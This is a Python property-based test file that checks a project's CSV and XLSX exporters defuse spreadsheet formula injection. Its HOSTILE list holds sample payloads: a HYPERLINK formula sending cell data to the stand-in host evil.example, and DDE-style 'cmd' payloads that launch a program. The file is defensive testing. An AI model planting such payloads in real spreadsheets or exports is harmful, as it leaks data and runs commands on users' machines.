"""No cell of a CSV or XLSX export can become a formula (issue 14, item 11)."""

from __future__ import annotations

import csv
import io

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from talentbrug.spreadsheets import FORMULA_TRIGGERS, csv_bytes, neutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Texts that start with a trigger, and any text at all.
triggered = st.builds(lambda t, rest: t + rest, st.sampled_from(FORMULA_TRIGGERS), st.text())
texts = st.one_of(st.text(), triggered)


@given(texts)
def test_neutralised_text_never_starts_with_a_formula_trigger(text):
    value = neutralise(text)
    assert not value.startswith(FORMULA_TRIGGERS)
    if text.startswith(FORMULA_TRIGGERS):
        assert value == "'" + text
    else:
        assert value == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_non_text_values_are_kept(value):
    assert neutralise(value) == value


@settings(max_examples=60, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4))
def test_csv_cells_read_back_neutralised(row):
    data = csv_bytes(["kolom"] * len(row), [row])
    assert data.startswith("\ufeff".encode())
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert read[1] == [neutralise(cell) for cell in row]
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in read[1])


@settings(max_examples=40, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4))
def test_xlsx_cells_are_neutralised_text_never_formulas(row):
    sheet = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes("Blad", ["kolom"] * len(row), [row]))
    ).active
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    for cell, original in zip(cells, row, strict=True):
        assert cell.data_type != "f"
        text = cell.value or ""
        assert not text.startswith(FORMULA_TRIGGERS)
        if original.startswith(FORMULA_TRIGGERS):
            assert text.startswith("'")


def test_known_payloads_come_out_neutralised_in_both_formats():
    rows = [[value, 7] for value in HOSTILE]
    read = list(
        csv.reader(io.StringIO(csv_bytes(["a", "b"], rows).decode("utf-8-sig")), delimiter=";")
    )
    assert [r[0] for r in read[1:]] == ["'" + value for value in HOSTILE]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("Blad", ["a", "b"], rows))).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert values == [("'" + value, 7) for value in HOSTILE]


def test_xlsx_replaces_control_characters_it_cannot_hold():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("Blad", ["a"], [["brief\x00\x07.pdf"]])))
    assert sheet.active.cell(row=2, column=1).value == "brief\ufffd\ufffd.pdf"
